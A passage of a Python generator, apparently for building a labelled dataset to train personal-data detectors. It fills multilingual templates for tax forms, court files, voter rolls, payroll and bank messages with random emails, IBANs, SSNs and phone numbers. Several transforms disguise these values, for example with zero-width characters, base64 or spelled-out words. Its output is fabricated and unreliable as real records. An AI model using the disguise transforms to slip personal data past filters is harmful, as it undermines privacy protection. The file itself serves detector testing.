            'zh2': (' at ', ' 点 '), 'br': ('{at}', '{dot}'), 'id': (' (et) ', ' (titik) '), 'vi': (' a còng ', ' chấm '), 'ar': (' على ', ' نقطة ')}
WORDS_EN = 'zero one two three four five six seven eight nine'.split()
WORDS_DE = 'null eins zwei drei vier fünf sechs sieben acht neun'.split()
WORDS_FR = 'zéro un deux trois quatre cinq six sept huit neuf'.split()
WORDS_PL = 'zero jeden dwa trzy cztery pięć sześć siedem osiem dziewięć'.split()


def xf(v, t):
    name, _, arg = t.partition('=')
    if name == 'at':
        w = AT_WORDS[arg or 'en']
        a, d = w.split('|') if isinstance(w, str) else w
        local, dom = v.split('@')
        return local + a + dom.replace('.', d)
    if name == 'atonly':
        a = AT_WORDS[arg or 'en'][0]
        return v.replace('@', a)
    if name == 'zw':
        ch = {'': '\u200b', 'zwj': '\u200d', 'zwnj': '\u200c', 'wj': '\u2060', 'shy': '\u00ad', 'cgj': '\u034f', 'bom': '\ufeff', 'lrm': '\u200e'}[arg]
        v = list(v)
        for _ in range(2):
            i = R.randint(1, len(v) - 1)
            v.insert(i, ch)
        return ''.join(v)
    if name == 'fw':
        return ''.join(chr(ord(c) + 0xFEE0) if '!' <= c <= '~' else ('\u3000' if c == ' ' else c) for c in v)
    if name == 'fwd':
        return ''.join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in v)
    if name == 'pct':
        return urllib.parse.quote(v, safe='')
    if name == 'b64':
        return base64.b64encode(v.encode()).decode()
    if name == 'b64u':
        return base64.urlsafe_b64encode(v.encode()).decode().rstrip('=')
    if name == 'ent':
        return v.replace('@', '&#64;').replace('.', '&#46;')
    if name == 'entx':
        return ''.join('&#x%x;' % ord(c) for c in v)
    if name == 'jsonu':
        return v.replace('@', '\\u0040')
    if name == 'qp':
        return v.replace('@', '=40').replace('.', '=2E')
    if name == 'rev':
        return v[::-1]
    if name == 'words':
        tab = {'': WORDS_EN, 'de': WORDS_DE, 'fr': WORDS_FR, 'pl': WORDS_PL}[arg]
        return ' '.join(tab[int(c)] if c.isdigit() else c for c in v if c not in ' -()')
    if name == 'nl':
        i = int(arg) if arg else len(v) // 2
        return v[:i] + '\n' + v[i:]
    if name == 'nbsp':
        return v.replace(' ', arg and chr(int(arg, 16)) or '\u00a0')
    if name == 'sep':
        d = re.sub(r'\D', '', v.replace('+', '00', 1) if v.startswith('+') else v)
        return (arg or ' ').join(d[i:i + 2] for i in range(0, len(d), 2)) if not v.startswith('+') else '+' + (arg or ' ').join(d[2:][i:i + 2] for i in range(0, len(d) - 2, 2))
    if name == 'spaced':
        return ' '.join(c for c in v if c != ' ')
    if name == 'digits':
        return to_digits(v, arg)
    if name == 'nodash':
        return v.replace('-', '').replace(' ', '')
    if name == 'dash':
        return v.replace(' ', '-')
    if name == 'dots':
        return v.replace(' ', '.').replace('-', '.')
    if name == 'slash':
        return v.replace(' ', '/').replace('-', '/')
    if name == 'lower':
        return v.lower()
    if name == 'jsonnl':
        return v.replace('\n', '\\n')
    if name == 'mid':
        return v  # no-op marker
    raise ValueError(t)


# ---------------------------------------------------------------- rendering
KINDS = ('email', 'phone', 'card', 'iban', 'ssn', 'ip', 'nino', 'dob', 'secret')


def gen_labelled(gen, args, store):
    """returns (kind, value) for a labelled generator."""
    kw = dict(x.split('=', 1) for x in args if '=' in x)
    pos = [x for x in args if '=' not in x]
    a = pos[0] if pos else None
    b = pos[1] if len(pos) > 1 else None
    if gen == 'email':
        person = store[kw['p']] if 'p' in kw else None
        return 'email', gen_email(a or 'en', person, kw.get('d'), kw.get('s'))
    if gen == 'phone':
        return 'phone', gen_phone(a or 'us', b or 'i')
    if gen == 'card':
        n = gen_card(a or 'visa')
        assert card_valid(n), n
        return 'card', fmt_card(n, b or 'sp')
    if gen == 'iban':
        return 'iban', fmt_iban(gen_iban(a or 'DE'), b or 'p')
    if gen == 'ssn':
        s = gen_ssn()
        return 'ssn', {'plain': s, 'sp': '%s %s %s' % (s[:3], s[3:5], s[5:])}.get(a, '%s-%s-%s' % (s[:3], s[3:5], s[5:]))
    if gen == 'nino':
        return 'nino', fmt_nino(gen_nino(), a or 'sp')
    if gen == 'ip4':
        return 'ip', gen_ip4(a or 'pub')
    if gen == 'ip6':
        return 'ip', gen_ip6()
    if gen == 'dob':
        lo, hi = (int(kw['lo']), int(kw['hi'])) if 'lo' in kw else (1941, 2007)
        return 'dob', fmt_date(gen_date(lo, hi), a or 'iso')
    if gen == 'sec':
        return 'secret', gen_secret(a)
    if gen == 'basic':
        return 'secret', base64.b64encode(((a or 'admin') + ':' + gen_password()).encode()).decode()
    if gen == 'lit':
        return b, kw.get('v')
    raise ValueError(gen)


def render(tpl, fam_name):
    store = {}
    segs = []
    la = 0
    pos = 0

    def add(text, kind=None):
        if not text:
            return
        if kind is None and segs and segs[-1][1] is None:
            segs[-1] = (segs[-1][0] + text, None)
        else:
            segs.append((text, kind))

    for m in re.finditer(r'<%(.*?)%>', tpl, re.S):
        add(tpl[pos:m.start()])
        pos = m.end()
        spec = m.group(1)
        name = None
        silent = False
        if spec.startswith('!'):
            silent = True
            spec = spec[1:]
        if spec.startswith('@'):
            mm = re.fullmatch(r'@(\w+)(?:\.(\w+))?(?:\[(\d*):(\d*)\])?(~?)', spec)
            ref, attr, s0, s1, tilde = mm.groups()
            kind, val = store[ref]
            if kind == 'person':
                add(val[attr or 'disp'])
                continue
            if s0 is not None or s1 is not None:
                val = val[int(s0) if s0 else None:int(s1) if s1 else None]
            if tilde or kind is None:
                la += 1 if (tilde or kind is None) and kind != 'plain' else 0
                add(val)
            else:
                add(val, kind)
            continue
        if '@' in spec:
            spec, name = spec.rsplit('@', 1)
        parts = spec.split('|')
        head, xfs = parts[0], parts[1:]
        gen, _, argstr = head.partition(':')
        args = [x for x in argstr.split(',') if x] if argstr else []
        if gen in ('name', 'first', 'last'):
            p = gen_person(args[0] if args else 'en')
            if name:
                store[name] = ('person', p)
            if not silent:
                add(p[{'name': 'disp', 'first': 'first', 'last': 'last'}[gen]])
            continue
        if gen == 'd':
            v = rd1(int(args[0]))
            if name:
                store[name] = ('plain', v)
            if not silent:
                add(v)
            continue
        if gen == 'r':
            v = str(R.randint(int(args[0]), int(args[1])))
            if name:
                store[name] = ('plain', v)
            if not silent:
                add(v)
            continue
        if gen == 'pick':
            add(pick(args))
            continue
        if gen.startswith('~'):
            for _ in range(200):
                v = gen_la(gen[1:], args)
                for t in xfs:
                    v = xf(v, t)
                if gen[1:] in ('testcard', 'sampleiban', 'samplenino', 'samplessn') or not looks_valid(v):
                    break
            else:
                raise RuntimeError('cannot make look-alike ' + spec)
            if name:
                store[name] = (None, v)
            if not silent:
                la += 1
                add(v)
            continue
        kind, v = gen_labelled(gen, args, store)
        for t in xfs:
            v = xf(v, t)
        if name:
            store[name] = (kind, v)
        if not silent:
            add(v, kind)
    add(tpl[pos:])
    return segs, la


# a look-alike must not be a valid value of a labelled kind
RX_CARD = re.compile(r'(?<![\d])\d(?:[ -]?\d){12,18}(?![\d])')
RX_IBAN = re.compile(r'\b[A-Z]{2}\d{2}(?: ?[A-Z0-9]){11,30}\b')
RX_SSN = re.compile(r'(?<![\d-])\d{3}-\d{2}-\d{4}(?![\d-])')
RX_NINO = re.compile(r'\b[A-Z]{2} ?\d{2} ?\d{2} ?\d{2} ?[A-Z]\b')


def looks_valid(v):
    for m in RX_CARD.finditer(v):
        d = re.sub(r'\D', '', m.group())
        for i in range(len(d)):
            for j in range(i + 13, len(d) + 1):
                if card_valid(d[i:j]):
                    return True
    for m in RX_IBAN.finditer(v):
        s = m.group().replace(' ', '')
        for j in range(15, len(s) + 1):
            if iban_ok(s[:j]):
                return True
    for m in RX_SSN.finditer(v):
        if ssn_ok(m.group()):
            return True
    for m in RX_NINO.finditer(v):
        if nino_ok(m.group()):
            return True
    return False


def esc_char(c):
    o = ord(c)
    if o > 0xFFFF:
        raise ValueError('non-BMP character')
    if c == '\n':
        return '\\n'
    if c == '\t':
        return '\\t'
    if c == '\\':
        return '\\u005C'
    cat = unicodedata.category(c)
    if (cat in ('Cc', 'Cf', 'Zl', 'Zp', 'Co', 'Cs', 'Cn') or (cat == 'Zs' and c != ' ') or c == '\u034f'
            or c in '\u115f\u1160\u3164\uffa0' or 0xFF00 <= o <= 0xFFEF):
        return '\\u%04X' % o
    return c


def esc_text(s, span_before, span_after):
    out = []
    n = len(s)
    for i, c in enumerate(s):
        if c in '{}':
            prev = s[i - 1] if i > 0 else ('}' if span_before else '')
            nxt = s[i + 1] if i + 1 < n else ('{' if span_after else '')
            if prev == c or nxt == c:
                out.append('\\u%04X' % ord(c))
                continue
        out.append(esc_char(c))
    return ''.join(out)


def encode(segs):
    out = []
    for i, (t, k) in enumerate(segs):
        if k is None:
            out.append(esc_text(t, i > 0, i + 1 < len(segs)))
        else:
            assert k in KINDS, k
            body = ''.join('\\u%04X' % ord(c) if c in '{}' else esc_char(c) for c in t)
            out.append('{{%s:%s}}' % (k, body))
    line = ''.join(out)
    if line.startswith('#'):
        line = '\\u0023' + line[1:]
    assert line.strip(), 'empty sample'
    return line


FAMILIES = []


def fam(name, lang, *tpls):
    FAMILIES.append((name, lang, tpls))


# ================================================================ templates: public sector & citizens
fam('de_steuer_elster', 'de',
    "Anlage N – steuerpflichtige Person: <%name:de@p%>, geboren am <%dob:de%>, Steuer-ID <%~natid:steuerid%>, Steuernummer 143/<%d:3%>/<%d:5%>. Erstattung bitte auf IBAN <%iban:DE%> (BIC <%~bic%>).",
    "Hallo Frau <%last:de%>, Ihr Bescheid vom <%~date:de%> (Aktenzeichen <%~case:de%>) liegt im ELSTER-Postfach. Rückfragen gern an <%email:de,d=fa-muenchen-steuer.de%> oder <%phone:de_l,n%>.",
    "Mantelbogen ESt 1 A\nZeile 7: Geburtsdatum <%dob:de%>\nZeile 8: Religion: VD\nZeile 31: IBAN siehe Anlage\nZeile 32: Kontoinhaber lt. Zeile 7\nTransferticket: <%~sha12%>",
    "Betreff: Einspruch gegen den Einkommensteuerbescheid 2024\n\nSehr geehrte Damen und Herren,\nhiermit lege ich Einspruch ein (Steuernummer 21/<%d:3%>/<%d:5%>, Vorgang <%~order:ELS%>). Erreichbar unter <%phone:de%> oder per Mail an <%email:de%>.\nMit freundlichen Grüßen\n<%name:de%>",
    "Kinderfreibetrag – Kind 1: <%first:de%>, geb. <%dob:de,lo=2008,hi=2022%>, Identifikationsnummer <%~natid:steuerid%>; Kind 2: <%first:de%>, Antrag vom <%~date:de_l%>. Familienkasse-Nr. <%~num:9%>.",
    "Die Lohnsteuerbescheinigung wurde am <%~date:de%> übermittelt (eTIN <%~pnr%><%~num:8%>). Der Arbeitgeber hat Beiträge in Höhe von <%~amount%> EUR gemeldet.",
    "Vollmacht Steuerberater: Mandant <%name:de%>, Vollmacht vom <%~date:de%>, Mobil <%phone:de,n%>. Mandantennummer <%~num:6%>, Beraternummer <%~num:7%>. USt-IdNr. der Kanzlei: <%~vat:DE%>.",
    "Bankverbindung geändert? Alte IBAN: <%~maskiban:DE%> – neue IBAN: <%iban:DE%>. Bitte nicht die Muster-IBAN <%~sampleiban:0%> aus dem Merkblatt eintragen.",
    "Fehlermeldung ELSTER: ERiC-Fehler 610301202 – Die Prüfziffer der IBAN <%~badiban:DE%> ist ungültig. Datensatz-ID <%~uuid%>.",
    "Spendenquittung Nr. <%~num:5%> vom <%~date:de%>: Zuwendung von <%~amount%> EUR durch <%name:de%>, wohnhaft Lindenstraße <%r:1,90%>, 80331 München.",
    "Kontakt Finanzamt: Servicezeiten Mo–Fr 8–16 Uhr, Durchwahl über die Zentrale. Bitte halten Sie Ihre Steuernummer bereit; die alte Steuer-ID <%~natid:steuerid%> bleibt lebenslang gültig.",
)

fam('fr_prestations_caf', 'fr',
    "Déclaration trimestrielle RSA – allocataire n° <%~num:7%>, <%name:fr@p%>, né le <%dob:fr%>, NIR <%~natid:nir%>. Versement sur le compte <%iban:FR%>.",
    "Bonjour, je n'arrive pas à me connecter à mon espace CAF. Mon adresse est <%email:fr%> et mon portable <%phone:fr,n%>. Merci de me rappeler. Réf. dossier <%~case:fr%>.",
    "Attestation de paiement du <%~date:fr%> : aide personnalisée au logement (APL) <%~amount%> €, bailleur SCI Les Tilleuls, RIB du bailleur transmis séparément.",
    "Formulaire Cerfa 15479*01 – Enfant à charge : <%first:fr%>, date de naissance <%dob:fr,lo=2006,hi=2021%>, scolarisé au collège Jean-Moulin depuis le <%~date:fr%>.",
    "Pôle emploi / France Travail : identifiant <%~num:7%><%pick:A,B,C,D%>, inscription du <%~date:fr%>, conseiller joignable au <%phone:fr_l,n%> (poste <%d:3%>).",
    "Courriel transféré par <%email:fr|at=fr%> : « voici mon nouveau RIB, l'ancien <%~badiban:FR%> est clôturé ».",
    "Pièces jointes reçues : avis d'imposition (n° fiscal <%~num:13%>), justificatif de domicile, RIB <%~maskiban:FR%>. Numéro de télédéclarant <%~num:13%>.",
    "Bénéficiaire : Mme <%name:fr%>, née le <%dob:fr_l%> à Lyon (69), tél. <%phone:fr,00%>.",
    "Exemple à ne pas recopier : <%~sampleiban:5%> – saisissez votre propre IBAN (27 caractères) sans espaces. Ticket support <%~ulid%>.",
    "Note interne : la demande de prime d'activité du <%~date:fr%> est en attente ; contrôle de ressources prévu le <%~date:fr%>. Aucun contact direct avec l'allocataire.",
    "Relevé de situation : conjoint <%name:fr%>, marié(e) le <%~date:iso%>, numéro SIRET de l'employeur <%~num:14%>.",
)

fam('pl_sad_rejonowy', 'pl',
    "Sygnatura akt <%~case:pl%>. Powód: <%name:pl%>, PESEL <%~natid:pesel%>, data urodzenia <%dob:de%>, zam. ul. Długa <%r:1,80%>, Gdańsk.",
    "Wezwanie do zapłaty – dłużnik <%name:pl%>, nr rachunku do wpłaty <%iban:PL%>, tytuł: sprawa <%~case:pl%>.",
    "Pełnomocnik: adw. <%name:pl%>, tel. <%phone:pl,n%>, e-mail <%email:pl%>. NIP kancelarii <%~vat:PL%>, REGON <%~num:9%>.",
    "Protokół rozprawy z dnia <%~date:de%>: świadek <%name:pl%> (ur. <%dob:pl_l%>) zeznał, że widział oskarżonego po godzinie 22:00.",
    "Akt oskarżenia, sygn. <%~case:pl%>: oskarżony zatrzymany <%~date:de%> w Radomiu, syn Jana i Marii, numer dowodu osobistego <%~passport2%>.",
    "Prośba o doręczenia elektroniczne na adres <%email:pl|at=pl%>; w razie problemów proszę dzwonić: <%phone:pl|words=pl%>.",
    "Postanowienie o zabezpieczeniu: zajęcie rachunku <%~badiban:PL%> (błędna suma kontrolna — komornik prosi o korektę). KW <%pick:WA1M,KR1P,PO1P%>/000<%d:5%>/<%d:1%>.",
    "Biuro Obsługi Interesantów czynne pon.–pt. 8:00–15:30. Numer sprawy w portalu informacyjnym: <%~uuid%>. Opłata sądowa: <%~amount%> zł.",
    "Wniosek o zwolnienie od kosztów: wnioskodawczyni <%name:pl%>, wniosek z dnia <%~date:iso%>, telefon kontaktowy <%phone:pl,e164%>.",
    "Lista obecności 14.01: sędzia SSR A. Nowak, protokolant, prokurator – Prokuratura Rejonowa, sygn. PR 2 Ds. <%r:100,999%>.<%r:2019,2026%>. Brak danych stron.",
    "Świadek: <%name:pl%>, nr tel. <%phone:pl|nl=6%>, adres e-mail: nie podano.",
)

fam('cs_policie_oznameni', 'cs',
    "Oznámení o přestupku č. j. KRPA-<%d:6%>-<%r:1,30%>/TČ-<%r:2019,2026%>-0011<%d:2%>. Podezřelý: <%name:cs%>, nar. <%dob:cs%>, r. č. <%~natid:rc%>.",
    "Poškozená <%name:cs%>, datum narození <%dob:de%>, telefon <%phone:cz,n%>, e-mail <%email:cs%>. Odcizené věci: mobilní telefon IMEI <%~imei%>.",
    "Úřední záznam: hlídka zastavila vozidlo RZ <%~plate:cz%>, VIN <%~vin%>. Řidič předložil ŘP č. <%~passport2%>, platný do <%~date:de%>.",
    "Dobrý den, posílám doplnění k oznámení <%~case:cs%>. Kontaktujte mě na <%email:cs|at=cs%> nebo na čísle <%phone:cz,e164%>.",
    "Výpis z evidence: platba pokuty na účet <%iban:CZ%>, variabilní symbol <%~num:10%>, konstantní symbol 0558.",
    "Protokol o výslechu svědka ze dne <%~date:de%>. Svědek předvolán na <%~date:de%>, trvale bytem Masarykova <%r:1,90%>.",
    "Pachatel pravděpodobně použil IP adresu <%ip4%> (zjištěno od poskytovatele), čas přihlášení <%~ts%>.",
    "Spisová značka <%~case:cs%>; datum zahájení řízení <%~date:de%>; datum pravomocnosti <%~date:de%>. Bez osobních údajů.",
    "Poškozený uvedl, že útočník z e-mailu <%email:cs%> požadoval zaslání kódu. Telefon poškozeného: <%phone:cz%>.",
    "Číslo jednací KRPB-<%d:5%>-<%r:1,20%>/ČJ-<%r:2019,2026%>-06<%d:4%>, ID datové schránky policie: <%pick:6kts2fr,zg9p4e5,r3ah2bq%>.",
)

fam('sk_sud_a_kataster', 'sk',
    "Rozsudok v mene Slovenskej republiky, sp. zn. <%~case:sk%>. Žalobca: <%name:sk%>, žaloba podaná <%~date:de%>, bytom Hlavná <%r:1,90%>, Košice.",
    "List vlastníctva č. <%r:100,9999%>, k. ú. Petržalka, parcela registra C č. <%r:1000,9999%>/<%r:1,40%>. Vlastník: <%name:sk%>, dátum narodenia <%dob:de%>, r. č. <%~natid:rc%>.",
    "Návrh na vklad V-<%d:4%>/<%r:2019,2026%> – kontakt na navrhovateľa: <%phone:sk,n%>, <%email:sk%>.",
    "Súdny poplatok uhraďte na účet <%iban:SK%>, VS <%~num:10%>. Upozornenie: účet <%~badiban:SK%> uvedený v starej výzve je chybný.",
    "Dobrý deň, prosím o zaslanie rozhodnutia na adresu <%email:sk|zw=%>. Ďakujem, <%name:sk%>, tel. <%phone:sk%>.",
    "Zápisnica z pojednávania dňa <%~date:de%> o 9:30 hod., pojednávacia miestnosť č. 112. Prítomní podľa prezenčnej listiny.",
    "Katastrálny portál – LV <%r:100,9999%>, GPS lomové body: <%~coords%>; <%~coords%>. Výmera 812 m².",
    "Exekučný príkaz EX <%r:100,9999%>/<%r:2019,2026%>: povinný <%name:sk%>, príkaz zo dňa <%~date:de%>, číslo účtu <%iban:SK,plain%>.",
    "Overenie podpisu: osvedčovacia kniha č. O2-<%d:4%>/<%r:2019,2026%>, totožnosť overená podľa OP č. <%~passport2%>, platný do <%~date:de%>.",
)

fam('nl_kadaster_en_gemeente', 'nl',
    "Kadastraal bericht object: Amsterdam, sectie K, perceel <%r:1000,9999%>. Eigenaar: <%name:nl%>, geboren op <%dob:nl%>, BSN <%~natid:bsn%>.",
    "Akte van levering, hypotheekakte nr. <%~num:8%>. Koopsom te storten op kwaliteitsrekening <%iban:NL%> van het notariskantoor.",
    "Beste heer <%last:nl%>, uw aanvraag omgevingsvergunning (zaaknummer Z/<%r:19,26%>/<%d:6%>) is ontvangen. Vragen? Mail <%email:nl%> of bel <%phone:nl,n%>.",
    "Verhuizing doorgeven – nieuw adres Kerkstraat <%r:1,200%>, 3511 LK Utrecht. Ingangsdatum: <%~date:nl%>. Telefoon: <%phone:nl%>. Kenteken auto: <%~plate:nl%>.",
    "Let op: gebruik niet het voorbeeldnummer <%~sampleiban:3%> uit de handleiding, maar uw eigen rekeningnummer.",
    "WOZ-beschikking <%r:2023,2026%>: WOZ-waarde € <%r:180,900%>.000, objectnummer <%~num:12%>, waardepeildatum <%~date:nl%>.",
    "Inschrijving BRP: kind <%first:nl%>, geboren <%dob:nl_l,lo=2015,hi=2024%> te Haarlem; ouder 1 bereikbaar op <%phone:nl,e164%>.",
    "Kwijtschelding gemeentelijke belastingen – rekeningnummer aanvrager: <%iban:NL,plain%>. Het eerder opgegeven nummer <%~badiban:NL%> werd geweigerd.",
    "Log gemeentelijk portaal: login via DigiD, sessie <%~uuid%>, client-IP <%ip4%>, user-agent Mozilla/5.0.",
    "Melding openbare ruimte #<%~num:7%>: losliggende stoeptegel ter hoogte van nr. 14. Melder wenst anoniem te blijven.",
)

fam('sv_fordonsregister_transportstyrelsen', 'sv',
    "Ägarbyte registrerat: fordon <%~plate:se%>, chassinummer <%~vin%>. Ny ägare <%name:sv%>, personnummer <%~natid:pnr_se%>, födelsedatum <%dob:sv%>.",
    "Hej! Jag har fått en felparkeringsavgift för <%~plate:se%> men sålde bilen <%~date:sv%>. Nå mig på <%phone:se,n%>. /<%name:sv%>",
    "Fordonsskatt: betala till bankgiro 5050-1055, OCR <%~num:16%>. Sista betalningsdag <%~date:sv%>.",
    "Körkortsansökan – sökande född <%dob:sv_l%>, syntest utfört <%~date:sv%>, körkortsbehörighet B. Handläggare nås på <%phone:se%>.",
    "Bilhandlare anger kundens kontonummer för återbetalning: <%iban:SE%>. Organisationsnummer <%~num:6%>-<%~num:4%>, momsreg.nr <%~vat:SE%>.",
    "Besiktningsprotokoll nr <%~num:9%>: mätarställning <%r:10000,250000%> km, nästa besiktning senast <%~date:sv%>. Inga personuppgifter.",
    "Trängselskatt-faktura skickad till <%email:sv|at=sv%> för fordon <%~plate:se%>.",
    "Utdrag ur vägtrafikregistret: ägare <%name:sv%>, ägare sedan <%~date:iso%>, adress Storgatan <%r:1,60%>, 753 20 Uppsala, tel <%phone:se,e164%>.",
    "API-svar (fordonsdata): {\"regnr\":\"<%~plate:se%>\",\"fabrikat\":\"Volvo\",\"modellar\":2019,\"vin\":\"<%~vin%>\",\"status\":\"I trafik\"}",
)

fam('fi_koulu_ilmoittautuminen', 'fi',
    "Ilmoittautuminen perusopetukseen: oppilas <%name:fi%>, syntymäaika <%dob:fi,lo=2012,hi=2019%>, henkilötunnus <%~natid:hetu%>. Huoltaja: <%name:fi%>, puh. <%phone:fi,n%>.",
    "Hei, tyttäreni aloittaa koulun elokuussa. Sähköposti: <%email:fi%>, puhelin <%phone:fi%>. Terveisin <%name:fi%>",
    "Wilma-viesti: Huoltajan tunnus <%~num:7%>, kirjautuminen epäonnistui IP-osoitteesta <%ip4%> klo 07.42.",
    "Oppilaan tiedot: synt. <%dob:fi_l,lo=2010,hi=2018%>, äidinkieli suomi, koulukuljetus tarvitaan. Huoltajan sähköposti <%email:fi|at=fi%>.",
    "Kouluruokailun erityisruokavalio: maidoton. Lomake palautettu <%~date:fi%>, lomakkeen numero <%~num:6%>.",
    "Lukion yhteishaku: hakijanumero <%~num:8%>, hakemus jätetty <%~date:fi%>, päätös annettu <%~date:fi%>.",
    "Retkimaksu maksetaan tilille <%iban:FI%>, viite <%~num:10%>. Eräpäivä <%~date:fi%>.",
    "Koulukuvaus: tilaustunnus <%~pnr%>-<%~num:5%>, kuvaaja Kuvaamo Oy (Y-tunnus <%~num:7%>-<%r:0,9%>).",
    "Opettajan huomio: Hakemus saapui <%~date:fi%>; lykätty koulunaloitus myönnetty päätöksellä <%~case:en%>.",
)

fam('us_voter_roll_exports', 'en',
    "VOTER_ID,LAST,FIRST,DOB,PHONE,PRECINCT\n<%~num:9%>,<%last:en%>,<%first:en%>,<%dob:us%>,<%phone:us,dash%>,<%r:100,999%>\n<%~num:9%>,<%last:en%>,<%first:en%>,<%dob:us%>,,<%r:100,999%>",
    "Voter registration update: name <%name:en%>, date of birth <%dob:en_l%>, last 4 of SSN <%~last4%>, driver's license <%~natid:dl_us%>, email <%email:en%>.",
    "Absentee ballot request received <%~date:us%>. Mailing address verified by USPS tracking <%~tracking:ups%>. Ballot ID <%~num:10%>.",
    "Poll worker application – applicant DOB <%dob:us%>, SSN <%ssn%>, cell <%phone:us,n%>. Training session scheduled for <%~date:us%>.",
    "Canvass export (precinct 14-B): <%~num:7%> registered voters, turnout 61.3%, file hash <%~sha256%>.",
    "Hi, I moved from Ohio and need to update my registration. My old voter ID is <%~num:9%>, I was born on <%dob:en_l%> and you can text me at <%phone:us,dot%>.",
    "County clerk note: duplicate record merged (IDs <%~num:9%> / <%~num:9%>). same registration date <%~date:us%>, different phone numbers <%phone:us,n%> and <%~p555%>.",
    "Provisional ballot affidavit: I, <%name:en%>, born <%dob:us_s%>, SSN (last four) <%~last4%>, affirm that I am a registered voter in this jurisdiction.",
    "Jury selection list (randomized): juror no. <%r:1,300%>, questionnaire ID <%~uuid%>, summons date <%~date:us%>.",
    "Data request log: requester <%email:en%> downloaded statewide voter file v<%~semver%> from <%ip4%> at <%~ts%>.",
)


# ================================================================ templates: UK/US citizens, banking back office, insurance
fam('uk_dwp_universal_credit', 'en',
    "Universal Credit claim – claimant <%name:gb%>, date of birth <%dob:gb%>, National Insurance number <%nino%>. Payments to sort code <%~sortcode%>, account <%~acctno:gb%>.",
    "Journal message: Hi, my NI number is <%nino:plain%> and I've changed my phone to <%phone:gb,n%>. Can my work coach call me? Thanks, <%first:gb%>",
    "PIP assessment letter ref <%~order:PIP%>. Example NI number shown on the form guidance: <%~samplenino%>. Please write your own in box 3.",
    "Carer's Allowance: cared-for person <%name:gb%>, born <%dob:gb_l%>, NINO <%nino%>; carer <%name:gb%>, NINO <%nino%>.",
    "Validation failed for field nino: value '<%~badnino%>' rejected (prefix not allocated). Correlation-Id <%~uuid%>.",
    "Fraud referral #<%~num:8%>: two claims share the address 14 Mill Lane, <%~postcode%>; NINOs <%nino%> and <%nino:plain%>; claimant phone <%phone:gb%>.",
    "Scanned letter (OCR): Nat1onal lnsurance no: <%nino|nbsp%>   D.O.B <%dob:gb%>   Ref: <%~num:10%>",
    "Call note 14:32 – caller could not confirm NINO (gave <%~badnino:suf%>), identity check failed, no changes made.",
    "Cold weather payment batch <%~build%>: <%r:2000,9000%> payments issued <%~date:gb%>, postcodes starting <%~postcode%>.",
    "Advance request: NI <%nino|lower%>, requested <%~date:iso%>, mobile <%phone:gb,e164%>.",
)

fam('uk_hmrc_payroll_starter', 'en',
    "New starter checklist (HMRC): Surname <%last:gb%>, forenames <%first:gb%>, NI number <%nino%>, date of birth <%dob:gb%>, employee statement B, student loan plan 2.",
    "P45 part 1A – employee's National Insurance number <%nino:plain%>, leaving date <%~date:gb%>, tax code 1257L, PAYE ref 120/<%~pnr%>.",
    "RTI FPS rejected: employee 0042 NINO <%~badnino:pre%> invalid; use the format <%~lit:QQ 12 34 56 C%>. Submission id <%~uuid%>.",
    "Hi HR, attaching my P60. NI: <%nino%>. Personal email for payslips: <%email:gb%>. Emergency contact: my partner on <%phone:gb,n%>.",
    "employee_id,ni_number,dob,email,sort_code,account\n<%~num:5%>,<%nino:plain%>,<%dob:iso%>,<%email:gb%>,<%~sortcode%>,<%~acctno:gb%>\n<%~num:5%>,<%nino:plain%>,<%dob:iso%>,<%email:gb%>,<%~sortcode%>,<%~acctno:gb%>",
    "Pension auto-enrolment letter: your NI number ends in <%pick:A,B,C,D%>; scheme reference <%~order:PEN%>; opt-out window closes <%~date:gb_l%>.",
    "Right-to-work check: share code <%~pnr%>-<%~pnr%>, checked on <%~date:gb%>, passport <%~natid:passport%>, passport expiry <%~date:gb%>.",
    "Payroll query via Teams: 'my NI is <%nino|zw=%> not the one on my payslip' – forwarded to payroll.",
)

fam('us_payroll_i9_w4', 'en',
    "Form W-4 (2025) Step 1: <%name:en%>, SSN <%ssn%>, filing status Single. Employer EIN <%~ein%>.",
    "I-9 Section 1: Last name <%last:en%>, First <%first:en%>, DOB <%dob:us%>, SSN <%ssn%>, email <%email:en%>, phone <%phone:us,n%>.",
    "ADP import error row 17: ssn '<%~badssn:a666%>' failed validation (area 666 not issued). Row 18: ssn '<%~badssn:g00%>' failed (group 00).",
    "Direct deposit form: routing (ABA) <%~aba%>, account <%~acctno:us%>, employee SSN <%ssn:plain%>.",
    "From: Payroll Team\nEmployee asked to update W-2 mailing address. Verified last 4 of SSN <%~maskssn%> and hire date <%~date:en_l%>.",
    "Contractor 1099-NEC: TIN provided is an ITIN (<%~itin%>), not an SSN; backup withholding not required. Payer TIN <%~ein%>.",
    "Onboarding chat: sure, my social is <%ssn:sp%>, born <%dob:us_s%>. Cell is <%phone:us,dot%>.",
    "Sample W-2 from the IRS instructions uses SSN <%~samplessn%>; do not key it. Batch <%~build%> contains <%r:20,90%> forms.",
    "E-Verify case <%~num:13%><%pick:AB,CD,XY%> closed: employment authorized. SSN on file <%ssn%>.",
    "Garnishment order: obligor <%name:en%>, SSN <%ssn%>, order date <%~date:us%>; case no. <%~case:en%>; remit to State Disbursement Unit.",
)

fam('swift_mt103_sepa_pain', 'en',
    "{1:F01<%~bic%>AXXX<%d:10%>}{2:O1031230<%d:6%>DEUTDEFFAXXX<%d:10%>}{4:\n:20:<%~pnr%><%~num:8%>\n:23B:CRED\n:32A:250314EUR<%r:100,99999%>,00\n:50K:/<%iban:DE,plain%>\n<%name:de%>\n:59:/<%iban:FR,plain%>\n<%name:fr%>\n:70:INV <%~order:INV%>\n:71A:SHA\n-}",
    "<CdtTrfTxInf><PmtId><EndToEndId><%~ulid%></EndToEndId></PmtId><Amt><InstdAmt Ccy=\"EUR\"><%~amount%></InstdAmt></Amt><CdtrAgt><FinInstnId><BICFI><%~bic%></BICFI></FinInstnId></CdtrAgt><Cdtr><Nm><%name:nl%></Nm></Cdtr><CdtrAcct><Id><IBAN><%iban:NL,plain%></IBAN></Id></CdtrAcct></CdtTrfTxInf>",
    "pain.002 status report: TxSts=RJCT, reason AC01 (incorrect account number) for creditor account <%~badiban:AT,plain%>. MsgId <%~uuid%>.",
    "MT199 free format: PLS ADVISE BENEFICIARY <%name:tr%> ACCOUNT <%iban:TR,plain%> FUNDS RETURNED REF <%~pnr%><%~num:6%>",
    "camt.053 entry: <NtryRef><%~num:16%></NtryRef><AcctSvcrRef><%~sha12%></AcctSvcrRef><RltdPties><DbtrAcct><Id><IBAN><%iban:BE,plain%></IBAN></Id></DbtrAcct></RltdPties>",
    "Ops ticket: SEPA Instant rejected (AM04) – debtor <%iban:ES%>. UETR <%~uuid%>.",
